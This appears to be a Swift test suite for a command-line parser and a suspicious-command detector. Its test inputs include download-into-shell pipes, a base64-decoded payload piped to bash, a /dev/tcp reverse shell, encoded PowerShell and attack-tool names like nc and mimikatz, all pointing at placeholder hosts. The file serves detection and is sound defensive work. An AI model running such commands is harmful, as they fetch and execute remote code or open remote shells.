import CommandLines
import Testing

struct CommandLinesTests {
    @Test(arguments: [
        ("\"C:\\A B\\x.exe\" /a b", "C:\\A B\\x.exe", "/a b"), ("C:\\A B\\x.exe /a", "C:\\A B\\x.exe", "/a"),
        ("C:\\A B\\x.exe", "C:\\A B\\x.exe", ""), ("rundll32 a.dll,b", "rundll32", "a.dll,b"), ("", "", ""),
        ("\"unclosed", "unclosed", ""), ("cmd.exe  /c dir", "cmd.exe", "/c dir"),
    ])
    func commandsAreCut(command: String, image: String, arguments: String) {
        let parts = CommandLineParts(command)
        #expect(parts.image == image)
        #expect(parts.arguments == arguments)
    }

    @Test func windowsCommandsAreJudged() {
        #expect(SuspiciousCommand.isEncodedPowerShell("powershell -nop -enc aaaa"))
        #expect(!SuspiciousCommand.isEncodedPowerShell("powershell -file c:\\scripts\\report.ps1"))
        #expect(!SuspiciousCommand.isEncodedPowerShell("tool -enc aaaa"))
        #expect(SuspiciousCommand.isScriptHost("mshta https://a.example/x"))
        #expect(!SuspiciousCommand.isScriptHost("rundll32 shell32.dll,control_rundll"))
        #expect(SuspiciousCommand.isShell("\"c:\\windows\\system32\\cmd.exe\" /c dir"))
        #expect(!SuspiciousCommand.isShell("c:\\tools\\run.exe cmd.exe"))
        #expect(SuspiciousCommand.isInUserWritablePlace("c:\\users\\public\\a.exe"))
        #expect(!SuspiciousCommand.isInUserWritablePlace("c:\\program files\\a\\a.exe"))
        #expect(SuspiciousCommand.isAttackTool("nc.exe"))
        #expect(SuspiciousCommand.isAttackTool("..nc.old.exe"))
        #expect(!SuspiciousCommand.isAttackTool("..."))
        #expect(SuspiciousCommand.isAttackTool("my-mimikatz2.exe"))
        #expect(!SuspiciousCommand.isAttackTool("ncpa.cpl"))
    }

    @Test func unixCommandsAreJudged() {
        #expect(SuspiciousCommand.isDownloadIntoShell("curl -s http://a.example/x | sh"))
        #expect(SuspiciousCommand.isDownloadIntoShell("wget -qo- http://a.example/x|sudo /bin/bash -s"))
        #expect(SuspiciousCommand.isDownloadIntoShell("curl -o /tmp/x http://a.example/x; chmod +x /tmp/x"))
        #expect(!SuspiciousCommand.isDownloadIntoShell("curl -s http://a.example/ping"))
        #expect(!SuspiciousCommand.isDownloadIntoShell("curl -s http://a.example/ping | grep shut"))
        #expect(SuspiciousCommand.isDecodedIntoShell("echo aaaa | base64 -d | bash"))
        #expect(!SuspiciousCommand.isDecodedIntoShell("base64 -d key.txt"))
        #expect(SuspiciousCommand.isReverseShell("bash -c 'exec 5<>/dev/tcp/192.0.2.1/99'"))
        #expect(!SuspiciousCommand.isReverseShell("rsync -e ssh /a b:/a"))
        #expect(SuspiciousCommand.runsFromTemporaryFolder("/tmp/x -a"))
        #expect(SuspiciousCommand.runsFromTemporaryFolder("sh \"/dev/shm/.k\""))
        #expect(!SuspiciousCommand.runsFromTemporaryFolder("find /tmp -mtime +7"))
        #expect(!SuspiciousCommand.runsFromTemporaryFolder("/usr/bin/tool --tmp /srv/tmp/x"))
    }
}
